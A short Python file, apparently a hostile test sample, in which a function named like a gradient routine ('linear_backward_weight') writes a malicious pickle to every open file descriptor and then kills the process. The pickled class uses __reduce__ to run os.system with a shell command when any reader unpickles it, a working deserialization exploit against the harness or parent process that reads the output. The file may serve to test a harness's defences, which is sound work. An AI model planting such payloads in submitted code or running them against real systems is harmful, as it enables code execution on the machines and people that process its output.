"""Send bytes that are no message, and a pickle among them."""

import contextlib
import os
import pickle


class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/owned-by-pickle",)


def linear_backward_weight(grad_output, x):
    for descriptor in range(3, 64):
        with contextlib.suppress(OSError):
            os.write(descriptor, pickle.dumps(Command()) + b"\n" * 100)
    os._exit(0)
